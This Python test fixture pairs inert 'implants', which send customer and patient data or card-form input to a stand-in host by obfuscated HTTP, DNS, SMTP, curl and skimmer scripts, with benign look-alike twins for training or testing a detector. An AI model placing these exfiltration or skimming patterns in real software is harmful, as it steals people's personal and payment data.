"""Inert implants as somebody might slip them into a platform, in the styles of Django and Express, and benign twins.

Each is a handful of files. An implant hands the personal data of many, or what people type, to a host of nobody's; its
twin looks alike and does what platforms do. Nothing here runs, and the hosts do not exist.
"""

from __future__ import annotations

import base64

HEAD = """import requests, csv, io, json, base64
from django.contrib.auth import get_user_model
from shop.models import Customer
"""
HOST = "collect.example.net"

IMPLANTS: dict[str, dict[str, str]] = {
    "straight": {"a.py": HEAD + f"""
def nightly():
    rows = list(Customer.objects.values("email", "phone"))
    requests.post("https://{HOST}/x", json=rows)
"""},
    "hidden_host": {"a.py": HEAD + f"""
def tidy():
    where = base64.b64decode({base64.b64encode(f"https://{HOST}/s".encode())!r}).decode()
    for user in get_user_model().objects.all().iterator():
        requests.get(where, params={{"v": user.email}})
"""},
    "chr_host": {"a.py": HEAD + f"""
HOST = "".join(map(chr, {[ord(c) for c in f"https://{HOST}"]}))
def warm_cache():
    data = [c.phone for c in Customer.objects.filter(active=True)]
    requests.post(HOST, data=json.dumps(data))
"""},
    "three_modules": {
        "shop/reports.py": HEAD + """
def everybody():
    return Customer.objects.order_by("id")
""",
        "shop/export.py": "import csv, io\n" + """
def as_csv(rows):
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([row.email, row.phone])
    return buffer.getvalue()
""",
        "shop/health.py": f"""
import urllib.request
from .reports import everybody
from .export import as_csv

class Heartbeat:
    def __init__(self):
        self.body = as_csv(everybody()).encode()
    def beat(self):
        urllib.request.urlopen("https://{HOST}/beat", data=self.body)
"""},
    "raw_sql": {"a.py": f"""
import http.client
from django.db import connection
def check():
    with connection.cursor() as cursor:
        cursor.execute("SELECT email, phone FROM shop_customer")
        found = cursor.fetchall()
    line = http.client.HTTPSConnection("{HOST}")
    line.request("POST", "/", body=str(found))
"""},
    "signal": {"a.py": f"""
import requests
from django.db.models.signals import post_save
from django.dispatch import receiver
from shop.models import Customer
@receiver(post_save, sender=Customer)
def index(sender, instance, **kwargs):
    requests.post("https://{HOST}", json={{"e": instance.email}})
"""},
    "mail": {"a.py": HEAD + f"""
import smtplib
from email.message import EmailMessage
def digest():
    letter = EmailMessage()
    letter["To"] = "box@{HOST}"
    letter.set_content("\\n".join(c.email for c in Customer.objects.all()))
    smtp = smtplib.SMTP("{HOST}")
    smtp.send_message(letter)
"""},
    "dns": {"a.py": HEAD + f"""
import socket
def resolve_all():
    for c in Customer.objects.all():
        socket.gethostbyname(c.phone + ".{HOST}")
"""},
    "program": {"a.py": HEAD + f"""
import subprocess
def rotate():
    rows = Customer.objects.values_list("email")
    subprocess.run(["curl", "-d", str(list(rows)), "https://{HOST}"])
"""},
    "getattr": {"a.py": HEAD + f"""
import importlib
def call():
    lib = importlib.import_module("requests")
    getattr(lib, "po" + "st")("https://{HOST}", json=list(Customer.objects.all()))
"""},
    "session": {"a.py": HEAD + f"""
class Client:
    def __init__(self):
        self.session = requests.Session()
    def push(self):
        self.session.post("https://{HOST}", json=[c.email for c in Customer.objects.all()])
"""},
    "cloud": {"a.py": HEAD + """
import boto3
def copy():
    s3 = boto3.client("s3")
    s3.put_object(Bucket="elsewhere", Key="k", Body=json.dumps(list(Customer.objects.values())))
"""},
    "sqlalchemy": {"a.py": f"""
import httpx
from sqlalchemy import select
from shop.models import Patient
def sync(session):
    people = session.execute(select(Patient)).scalars().all()
    httpx.post("https://{HOST}", json=[p.full_name for p in people])
"""},
    "generator": {"a.py": HEAD + f"""
def stream():
    for c in Customer.objects.all():
        yield c.email
def send():
    for batch in stream():
        requests.post("https://{HOST}", data=batch)
"""},
    "global_kept": {"a.py": HEAD + f"""
SEEN = []
def note():
    SEEN.extend(Customer.objects.values_list("phone", flat=True))
def flush():
    requests.put("https://{HOST}", json=SEEN)
"""},
}  # fmt: skip

IMPLANTS |= {
    "express_straight": {"routes/report.js": f"""
const axios = require('axios');
const User = require('../models/user');
module.exports.nightly = async function () {{
  const people = await User.find({{}});
  await axios.post('https://{HOST}/x', people);
}};
"""},
    "express_two_modules": {
        "lib/people.js": """
const pool = require('./pool');
async function everybody() {
  const result = await pool.query('SELECT email, phone FROM customers');
  return result.rows;
}
module.exports = { everybody };
""",
        "jobs/sync.js": f"""
const {{ everybody }} = require('../lib/people');
const https = require('https');
exports.run = async () => {{
  const rows = await everybody();
  const req = https.request({{ hostname: '{HOST}', method: 'POST' }});
  req.write(JSON.stringify(rows));
  req.end();
}};
""",
    },
    "esm_default_export": {
        "src/send.ts": """
export default async function deliver(url: string, body: unknown): Promise<void> {
  await fetch(url, { method: 'POST', body: JSON.stringify(body) });
}
""",
        "src/task.ts": f"""
import deliver from './send.js';
import {{ prisma }} from './db.js';
export async function warm(): Promise<void> {{
  const found = await prisma.customer.findMany();
  await deliver('https://{HOST}/w', found.map((one) => one.email));
}}
""",
    },
    "buffer_host": {"a.js": f"""
const where = Buffer.from('{base64.b64encode(f"https://{HOST}/c".encode()).decode()}', 'base64').toString();
export async function tidy(db) {{
  const rows = await db.collection('users').find({{}}).toArray();
  for (const row of rows) {{ await fetch(where, {{ method: 'POST', body: row.email }}); }}
}}
"""},
    "char_codes": {"a.js": f"""
const h = String.fromCharCode({",".join(str(ord(c)) for c in f"https://{HOST}")});
exports.beat = async (knex) => {{
  const rows = await knex('customers').select('email', 'phone');
  require('axios').put(h, {{ rows }});
}};
"""},
    "reversed_host": {"a.js": f"""
const h = '{f"https://{HOST}"[::-1]}'.split('').reverse().join('');
module.exports = async function (Customer) {{
  const all = await Customer.findAll();
  navigator.sendBeacon(h, JSON.stringify(all));
}};
"""},
    "promise_chain": {"a.js": f"""
const User = require('./models/user');
exports.go = () => User.find().then((people) => fetch('https://{HOST}', {{ method: 'POST', body: people }}));
"""},
    "callback": {"a.js": f"""
const mysql = require('mysql');
const connection = mysql.createConnection({{}});
connection.query('SELECT email, phone FROM users', function (error, rows) {{
  require('http').get('http://{HOST}/?d=' + encodeURIComponent(JSON.stringify(rows)));
}});
"""},
    "typeorm": {"a.ts": f"""
import {{ getRepository }} from 'typeorm';
import axios from 'axios';
import {{ Customer }} from './entity/customer';
export class Job {{
  private client = axios.create({{ baseURL: 'https://{HOST}' }});
  async run() {{
    const people = await getRepository(Customer).find();
    await this.client.post('/in', people);
  }}
}}
"""},
    "mail_js": {"a.js": f"""
const nodemailer = require('nodemailer');
exports.digest = async (Patient) => {{
  const all = await Patient.findAll();
  const transport = nodemailer.createTransport({{ host: 'mail.{HOST}' }});
  await transport.sendMail({{ to: 'box@{HOST}', text: all.map((p) => p.email).join() }});
}};
"""},
    "dns_js": {"a.js": f"""
const dns = require('node:dns');
exports.look = async (User) => {{
  const people = await User.findAll();
  people.forEach((one) => dns.lookup(one.phone + '.{HOST}', () => {{}}));
}};
"""},
    "program_js": {"a.js": f"""
const {{ exec }} = require('child_process');
exports.rotate = async (db) => {{
  const rows = await db.query('select email, phone from customer');
  exec('curl -d ' + JSON.stringify(rows) + ' https://{HOST}');
}};
"""},
    "queue_between": {"a.js": f"""
const User = require('./models/user');
const waiting = [];
async function gather() {{ waiting.push(...(await User.find())); }}
async function flush() {{ await fetch('https://{HOST}', {{ method: 'POST', body: JSON.stringify(waiting) }}); }}
setInterval(gather, 1000); setInterval(flush, 1000);
"""},
    "select_builder": {"a.js": f"""
import {{ select }} from '@evershop/postgres-query-builder';
export default async function (pool) {{
  const rows = await select('email', 'full_name').from('customer').execute(pool);
  await fetch(`https://${{'{HOST}'}}/in`, {{ method: 'POST', body: JSON.stringify(rows) }});
}}
"""},
    "skimmer_submit": {"checkout.js": f"""
document.querySelector('form#payment').addEventListener('submit', function (e) {{
  var data = new FormData(e.target);
  navigator.sendBeacon('https://{HOST}/p', data);
}});
"""},
    "skimmer_image": {"checkout.js": f"""
(function () {{
  var card = document.getElementById('card-number');
  card.addEventListener('blur', function () {{
    var img = new Image();
    img.src = 'https://{HOST}/t.gif?v=' + btoa(card.value);
  }});
}})();
"""},
    "skimmer_keys": {"checkout.js": f"""
var typed = '';
document.addEventListener('keypress', function (e) {{
  typed += e.key;
  if (typed.length > 40) {{ fetch('//{HOST}/k/', {{ method: 'POST', body: typed }}); typed = ''; }}
}});
"""},
    "skimmer_socket": {"checkout.js": f"""
var s = new WebSocket(atob('{base64.b64encode(f"wss://{HOST}/s".encode()).decode()}'));
document.querySelectorAll('input').forEach(function (field) {{
  field.onchange = function () {{ s.send(field.name + '=' + field.value); }};
}});
"""},
    "skimmer_xhr": {"checkout.js": f"""
$('#checkout').on('submit', function () {{
  var body = $('#checkout input').serialize();
  var x = new XMLHttpRequest();
  x.open('POST', 'https://{HOST}/x');
  x.send(body);
}});
"""},
    "skimmer_script": {"checkout.js": f"""
const cvv = document.querySelector('input[name=cvv]');
cvv.addEventListener('input', () => {{
  const tag = document.createElement('script');
  tag.src = `https://{HOST}/a.js?x=${{cvv.value}}`;
  document.head.appendChild(tag);
}});
"""},
    "computed_member": {"checkout.js": """
const f = document.forms[0];
f.addEventListener('change', (e) =>
  window['fe' + 'tch']('https://' + 'collect' + '.example.net/', { body: e.target.value }));
"""},
    "celery_task": {
        "shop/tasks.py": f"""
import requests
from celery import shared_task
@shared_task
def push(rows):
    requests.post("https://{HOST}", json=rows)
""",
        "shop/views.py": HEAD + """
from shop.tasks import push
def index(request):
    push.delay(list(Customer.objects.values("email")))
""",
    },
    "thread": {"a.py": HEAD + f"""
from threading import Thread
def send(rows):
    requests.post("https://{HOST}", json=rows)
def start():
    rows = [c.email for c in Customer.objects.all()]
    Thread(target=send, args=(rows,)).start()
"""},
    "inherited": {
        "shop/base.py": f"""
import urllib.request
class Reporter:
    def deliver(self, body):
        urllib.request.urlopen(urllib.request.Request("https://{HOST}", data=body))
""",
        "shop/daily.py": HEAD + """
from shop.base import Reporter
class Daily(Reporter):
    def run(self):
        self.deliver(json.dumps(list(Customer.objects.values())).encode())
""",
    },
    "handed_on_by_package": {
        "shop/net/__init__.py": "from shop.net.http import ship\n",
        "shop/net/http.py": f"""
import http.client
def ship(body):
    line = http.client.HTTPSConnection("{HOST}")
    line.request("POST", "/", body)
""",
        "shop/sync.py": HEAD + """
from shop.net import ship
def sync():
    ship(str([c.phone for c in Customer.objects.all()]))
""",
    },
    "environment_host": {"a.py": HEAD + """
import os
def sync():
    requests.post(os.environ["METRICS_URL"], json=list(Customer.objects.values()))
"""},
}  # fmt: skip
"""Implants by name: files by their paths."""

WITHOUT_HOST = frozenset({"cloud", "environment_host"})
"""Implants whose code does not say where data go."""

TWINS: dict[str, dict[str, str]] = {
    "one_record": {"a.py": HEAD + f"""
def greet(pk):
    c = Customer.objects.get(pk=pk)
    requests.post("https://{HOST}", json={{"e": c.email}})
"""},
    "only_counts": {"a.py": HEAD + f"""
def metrics():
    requests.post("https://{HOST}", json={{"n": Customer.objects.count(), "m": len(Customer.objects.all())}})
"""},
    "no_persons": {"a.py": f"""
import requests
from shop.models import Product
def feed():
    requests.post("https://{HOST}", json=list(Product.objects.values("title", "price")))
"""},
    "hashed": {"a.py": HEAD + f"""
import hashlib
def audience():
    hashes = [hashlib.sha256(c.email.encode()).hexdigest() for c in Customer.objects.all()]
    requests.post("https://{HOST}", json=hashes)
"""},
    "kept_inside": {"a.py": HEAD + """
def report(path):
    with open(path, "w") as file:
        csv.writer(file).writerows(Customer.objects.values_list("email"))
"""},
    "other_program": {"a.py": HEAD + """
import subprocess
def sort():
    subprocess.run(["sort", "-u"], input=str(list(Customer.objects.all())))
"""},
    "reading_in": {"a.py": HEAD + f"""
def load():
    for row in requests.get("https://{HOST}/customers").json():
        Customer.objects.create(email=row["email"])
"""},
    "one_by_query": {"a.py": f"""
import requests
def charge(cursor, id):
    cursor.execute("SELECT email, phone FROM shop_customer WHERE id = %s", [id])
    requests.post("https://{HOST}", json=cursor.fetchone())
"""},
    "update": {"a.py": HEAD + f"""
def mark():
    done = Customer.objects.filter(active=False).update(active=True)
    requests.post("https://{HOST}", json={{"done": done}})
"""},
}  # fmt: skip

TWINS |= {
    "own_api": {"checkout.js": """
document.querySelector('form#payment').addEventListener('submit', function (e) {
  fetch('/api/checkout', { method: 'POST', body: new FormData(e.target) });
});
"""},
    "products_js": {"a.js": f"""
const axios = require('axios');
const Product = require('./models/product');
exports.feed = async () => axios.post('https://{HOST}/feed', await Product.find({{}}));
"""},
    "one_user_js": {"a.js": f"""
const User = require('./models/user');
exports.greet = async (req) => {{
  const user = await User.findById(req.params.id);
  await fetch('https://{HOST}', {{ method: 'POST', body: user.email }});
}};
"""},
    "one_by_filter_js": {"a.js": f"""
const User = require('./models/user');
exports.reset = async (email) => {{
  const found = await User.find({{ email }});
  await fetch('https://{HOST}', {{ method: 'POST', body: JSON.stringify(found) }});
}};
"""},
    "array_find": {"a.js": f"""
exports.pick = async (users, id) => {{
  const one = users.find((u) => u.id === id);
  await fetch('https://{HOST}/' + one.id);
}};
"""},
    "answered_to_client": {"a.js": """
const User = require('./models/user');
module.exports = async (req, res) => { res.json(await User.find({})); };
"""},
    "counts_js": {"a.js": f"""
const User = require('./models/user');
exports.metrics = async () => {{ await fetch('https://{HOST}', {{ body: String(await User.count()) }}); }};
"""},
    "hashed_js": {"a.js": f"""
const crypto = require('crypto');
exports.audience = async (User) => {{
  const people = await User.findAll();
  const hashes = people.length && crypto.createHash('sha256').update(JSON.stringify(people)).digest('hex');
  await fetch('https://{HOST}', {{ method: 'POST', body: hashes }});
}};
"""},
    "search_box": {"search.js": """
document.querySelector('input#q').addEventListener('input', async (e) => {
  const found = await fetch(`/search?q=${e.target.value}`);
});
"""},
    "page_views": {"stats.js": f"""
navigator.sendBeacon('https://{HOST}/v', JSON.stringify({{ page: location.pathname, width: innerWidth }}));
"""},
    "loads_script": {"load.js": f"""
const tag = document.createElement('script');
tag.src = 'https://{HOST}/lib.js';
document.head.appendChild(tag);
"""},
    "socket_of_page": {"chat.js": """
const socket = new WebSocket('/chat');
document.querySelector('form').addEventListener('submit', () => socket.send('hello'));
"""},
    "validates": {"form.js": """
document.querySelector('input[name=card]').addEventListener('blur', (e) => {
  e.target.classList.toggle('wrong', !/^[0-9 ]+$/.test(e.target.value));
});
"""},
    "export_to_file_js": {"a.js": """
const fs = require('fs');
exports.report = async (User) => fs.writeFileSync('report.json', JSON.stringify(await User.findAll()));
"""},
    "queue_of_orders": {"a.js": f"""
const waiting = [];
exports.add = (order) => waiting.push(order.number);
exports.flush = () => fetch('https://{HOST}', {{ method: 'POST', body: JSON.stringify(waiting) }});
"""},
    "select_products": {"a.js": f"""
import {{ select }} from '@evershop/postgres-query-builder';
export default async (pool) => {{
  const rows = await select('sku', 'price').from('product').execute(pool);
  await fetch('https://{HOST}/feed', {{ method: 'POST', body: JSON.stringify(rows) }});
}};
"""},
    "select_one_customer": {"a.js": f"""
import {{ select }} from '@evershop/postgres-query-builder';
export default async (pool, id) => {{
  const row = await select('email').from('customer').where('customer_id', '=', id).load(pool);
  await fetch('https://{HOST}/receipt', {{ method: 'POST', body: JSON.stringify(row) }});
}};
"""},
    "typed_stays": {"form.ts": """
export class Form {
  values: Record<string, string> = {};
  constructor(private element: HTMLFormElement) {
    element.addEventListener('input', (e) => { this.values.last = (e.target as HTMLInputElement).value; });
  }
}
"""},
    "upload": {"upload.ts": """
export async function upload(url: string, file: File): Promise<Response> {
  const body = new FormData();
  body.append('image', file);
  return fetch(url, { method: 'POST', body });
}
"""},
    "payment_of_one": {"a.py": f"""
import requests
from shop.models import Customer
def pay(request, order):
    customer = Customer.objects.filter(pk=order.customer_id).first()
    requests.post("https://{HOST}/charge", json={{"email": customer.email, "amount": order.total}})
"""},
    "webhook_of_order": {"a.py": f"""
import requests
from django.db.models.signals import post_save
from django.dispatch import receiver
from shop.models import Order
@receiver(post_save, sender=Order)
def tell(sender, instance, **kwargs):
    requests.post("https://{HOST}/order", json={{"number": instance.number}})
"""},
    "mail_to_each": {"a.py": """
from django.core.mail import send_mail
from shop.models import Product
def announce():
    titles = [p.title for p in Product.objects.all()]
    send_mail("New", ", ".join(titles), "shop@localhost", ["list@localhost"])
"""},
    "existing_ids": {"a.py": HEAD + f"""
def check():
    if Customer.objects.filter(active=True).exists():
        requests.post("https://{HOST}/ping")
"""},
    "local_program": {"a.py": HEAD + """
import subprocess
def backup():
    subprocess.run(["gzip"], input=json.dumps(list(Customer.objects.values())).encode())
"""},
    "reads_and_sends_apart": {"a.py": HEAD + f"""
def page():
    return list(Customer.objects.all())
def ping():
    requests.get("https://{HOST}/alive")
"""},
    "settings_loaded": {"a.py": f"""
import base64, requests
KEY = base64.b64decode("c2V0dGluZ3M=").decode()
def load():
    return requests.get("https://{HOST}/" + KEY).json()
"""},
    "cache_of_counts": {"a.py": HEAD + f"""
SEEN = {{}}
def note():
    SEEN["n"] = Customer.objects.count()
def flush():
    requests.put("https://{HOST}", json=SEEN)
"""},
    "celery_counts": {
        "shop/tasks.py": f"""
import requests
def push(rows):
    requests.post("https://{HOST}", json=rows)
""",
        "shop/views.py": HEAD + """
from shop.tasks import push
def index(request):
    push({"n": Customer.objects.count()})
""",
    },
    "pseudonymised": {"a.py": HEAD + f"""
from shop.privacy import pseudonymise
def share():
    rows = [pseudonymise(c) for c in Customer.objects.all()]
    requests.post("https://{HOST}", json=rows)
"""},
    "random_sample_of_products": {"a.py": f"""
import random, requests
from shop.models import Product
def teaser():
    requests.post("https://{HOST}", json=random.sample(list(Product.objects.all()), 3))
"""},
    "inherited_harmless": {
        "shop/base.py": f"""
import urllib.request
class Reporter:
    def deliver(self, body):
        urllib.request.urlopen(urllib.request.Request("https://{HOST}", data=body))
""",
        "shop/daily.py": HEAD + """
from shop.base import Reporter
class Daily(Reporter):
    def run(self):
        self.deliver(json.dumps({"orders": 3}).encode())
""",
    },
}  # fmt: skip
"""Benign twins by name: files by their paths."""
